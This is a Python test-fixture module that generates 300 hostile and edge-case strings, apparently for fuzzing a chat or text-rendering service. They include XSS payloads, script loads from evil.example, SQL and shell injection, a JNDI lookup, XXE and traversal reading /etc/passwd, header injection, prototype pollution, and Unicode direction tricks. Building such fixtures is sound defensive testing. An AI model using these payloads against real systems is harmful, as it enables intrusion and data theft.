"""Texts that want to be more than text. `window.__pwned` is set by whichever of them runs."""

import itertools

PWN = "window.__pwned=1"

_HTML = [
    f"<script>{PWN}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<img src=x onerror={PWN}>",
    f"<svg onload={PWN}>", f"<svg><script>{PWN}</script></svg>", f"<iframe srcdoc='<script>parent.{PWN}</script>'>",
    f"<body onload={PWN}>", f"<input autofocus onfocus={PWN}>", f"<details open ontoggle={PWN}>x</details>",
    f"<video><source onerror={PWN}></video>", f"<math><mtext><script>{PWN}</script></mtext></math>",
    f"<a href=javascript:{PWN}>click me</a>", f"<form action=javascript:{PWN}><button>go</button></form>",
    f"<object data=javascript:{PWN}></object>", f"<embed src=javascript:{PWN}>", "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{PWN}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", f"<marquee onstart={PWN}>wide</marquee>",
    f"<template><img src=x onerror={PWN}>", f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">",
    f"<!--><img src=x onerror={PWN}>-->", f"<![CDATA[<img src=x onerror={PWN}>]]>", f"<x onclick={PWN}>y</x>",
    "</li></ul></main></body></html>", "<plaintext>", "<textarea>", "<xmp>", "<!doctype html><title>new</title>",
    "</textarea></script></style></title>", "<select><option>", f"<audio src=x onerror={PWN}>",
    f"<img src=\"x`y\" onerror=\"{PWN}\">", f"<img/src='x'/onerror={PWN}//>", f"<ScRiPt>{PWN}</sCrIpT>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>", f"&lt;script&gt;{PWN}&lt;/script&gt;",
    f"&#60;img src=x onerror={PWN}&#62;", f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e",
    f"%3Cscript%3E{PWN}%3C/script%3E",
]
_ATTRIBUTES = [
    f'" onmouseover="{PWN}', f"' onmouseover='{PWN}", f"\" autofocus onfocus={PWN} x=\"", f"`onload={PWN}`",
    f'"><img src=x onerror={PWN}>', f"'><svg/onload={PWN}>", f"--><script>{PWN}</script>",
    f"]]><script>{PWN}</script>", f"*/{PWN}/*", f"');{PWN};//", f'");{PWN};//', f"${{{PWN}}}", f"#{{{PWN}}}",
    f"{{{{{PWN}}}}}", f"<%= {PWN} %>", f"{{% {PWN} %}}", "{{constructor.constructor('" + PWN + "')()}}", "${{7*7}}",
    "#{7*7}", "*{7*7}", "@(7*7)", "[[${7*7}]]", "{{7*'7'}}", "{{=<% %>=}}", "%{(#a=1)}",
    "${jndi:ldap://evil.example/a}",
]
_ADDRESSES = [
    f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f"java\tscript:{PWN}", f"javascript&colon;{PWN}", f" javascript:{PWN}",
    f"data:text/html,<script>{PWN}</script>", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+", f"vbscript:{PWN}",
    "file:///etc/passwd", "https://evil.example/<script>", "https://evil.example/\"onmouseover=\"x",
    "http://user:secret@evil.example/", "//evil.example/x", "https://evil.example/" + "a" * 600,
    "https://xn--80ak6aa92e.com/", "https://аррӏе.com/", "http://[::1]:80/", "http://0/", "https://",
    f"https://a.example/#{PWN}", f"[click](javascript:{PWN})", f"![x](x onerror={PWN})",
    "mailto:a@b.example?bcc=c@d.example", "tel:+1;ext=<b>", f"https://a.example\njavascript:{PWN}",
    "HTTPS://A.EXAMPLE/?q=<b>&r='\"", "www.evil.example", "a@b", "blob:https://evil.example/1",
]
_QUERIES = [
    "'; DROP TABLE messages; --", "\" OR \"\"=\"", "' OR 1=1 --", "1; SELECT pg_sleep(10)",
    "%' AND 1=0 UNION SELECT * FROM customers --", "_%_", "100%", "\\", "\\\\", "\\'", "''", "NULL", "nil",
    "undefined", "NaN", "true", "false", "[object Object]", "None", "0", "-1", "1e309", "0x0", "../../etc/passwd",
    "..\\..\\windows", "$(reboot)", "`reboot`", "; ls -la", "| cat /etc/passwd", "&& true", "*", "?", "~", "-rf",
    "--help", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
]
_FRAMES = [
    "\n\ndata: {\"typing\":true}\n\n", "x\r\n\r\nevent: reset\r\ndata: {}\r\n\r\n", "\ndata: x", "id: 999999\n\n",
    "retry: 1\n\nx", ": comment\n\nx", "event: message\ndata: {\"text\":\"forged\"}\n\nx", "a\rb", "a\r\nb",
    "a\n\n\n\n\n\nb", "X\r\nSet-Cookie: a=b\r\n\r\n<script>", "HTTP/1.1 200 OK\r\n\r\nx", "a\u2028b", "a\u2029b",
    "a\u0085b", "a\u000bb", "a\u000cb", "tab\there", "\tindented", "  two spaces   inside  ", "trailing\n",
]
_JSON = [
    "{}", "[]", '{"__proto__": {"polluted": 1}}', '{"constructor": {"prototype": {"x": 1}}}', '"', '\\"',
    '{"text": "\\u0000"}', "}{", "]}", "\\u0000", "\\ud800", '{"$ne": null}', "__proto__", "constructor", "toString",
    "hasOwnProperty", "null\nnull", '{"a":' * 50 + "1" + "}" * 50, "[" * 500,
]
_CONTROLS = [f"before{chr(code)}after" for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 128, 133, 159, 0xAD)]
_CONTROLS += [
    "nul\0inside", "\0start", "end\0", "\ufefffirst", "a\ufffdb", "a\ufffeb", "a\uffffb", "\U000e0041\U000e007f tag",
    "a\u034fb", "\u00a0\u00a0x",
]
_DIRECTIONS = [
    f"left {chr(code)} <b>thgir</b> {PWN}"
    for code in (0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x061C)]
_DIRECTIONS += [
    "\u202e" * 40 + "gpj.exe", "שלום עולם", "مرحبا بالعالم", "abc אבג 123 دهو def", "\u2066" * 200 + "x",
    "\u202eelif_drawkcab.exe\u202c ok",
]
_MARKS = [
    "Z" + "".join(chr(0x300 + n % 0x6F) for n in range(300)) + "algo", "e" + "\u0301" * 500, "ก" + "็" * 200,
    "ด้้้้้็็็็็้้้้้็็็็็้้้้้้้้็็็็็้้้้้็็็็็้้้้้้้้็็็็็", "\u200d" * 50 + "joined", "\u200b" * 300 + "zero",
    "a\u200bb\u200cc\u200dd\u2060e", "﷽" * 40, "𒐫" * 100, "꧅" * 60, "🏳️‍🌈" * 20, "👨‍👩‍👧‍👦" * 40, "👩🏽‍🚀👨🏿‍🦰",
    "🇺🇸🇩🇪🇯🇵" * 10, "🧑‍🤝‍🧑" * 30, "😀" * 400, "#️⃣*️⃣0️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\U0001f3fb", "☠︎☠️", "ＷＩＤＥ ｔｅｘｔ" * 30, "𝕳𝖊𝖑𝖑𝖔",
    "ʇxǝʇ uʍop", "Ⅷ½㎢㏇", "田中さんにあげて下さい", "社會科學院語學研究所", "ᚠᛇᚻ", "İıIi", "ßẞſ", "Ω≈ç√∫˜µ≤≥÷", "￼￼￼",
    "\ue000\uf8ff private", "̷̡̛" * 60 + "x",
]
_LONG = [
    "W" * 4000, "i" * 4000, "word " * 799 + "end", "\n" * 300 + "below", "-" * 2000, "_" * 2000,
    "https://a.example/" + "x/" * 900, "漢" * 2000, "\u00a0" * 500 + "x", "a" + "\u0301" * 3900,
    "line\n" * 400 + "last", "A" * 64 + "@" + "b" * 60 + ".example", "0" * 1500, "1234567890" * 30, "." * 3000,
    "👍" * 1500,
]
_STYLES = [
    "body{display:none}", "</style><style>*{position:fixed}", "position:fixed;top:0;left:0;width:100vw",
    "expression(" + PWN + ")", "url(javascript:" + PWN + ")", "@import url(//evil.example/x.css);",
    "style=\"width:9999px\"", "}</style>", ":root{--x:1}", "!important", "<font size=200>big</font>", "<b><i><u>",
    "<table><tr><td>" * 20, "<div style=width:9999px>wide</div>", "<br>" * 200, "<hr>" * 50, "<center>",
    "<h1>loud</h1>", "<p hidden>", "<dialog open>hello</dialog>",
]


def texts() -> list[str]:
    """300 of them, each once; the first lines are fit for a text box."""
    families = [
        _HTML, _ATTRIBUTES, _ADDRESSES, _QUERIES, _STYLES, _JSON, _FRAMES, _CONTROLS, _DIRECTIONS, _MARKS, _LONG]
    mixed = [one for row in itertools.zip_longest(*families) for one in row if one is not None]
    # What no family has 300 of is made up by nesting.
    more = (f"{outer}{inner}" for outer in _ATTRIBUTES for inner in _HTML)
    found = dict.fromkeys(itertools.chain(mixed, more))
    return list(itertools.islice(found, 300))


def kept(text: str) -> str:
    """As the services keep it."""
    return text.replace("\0", "")
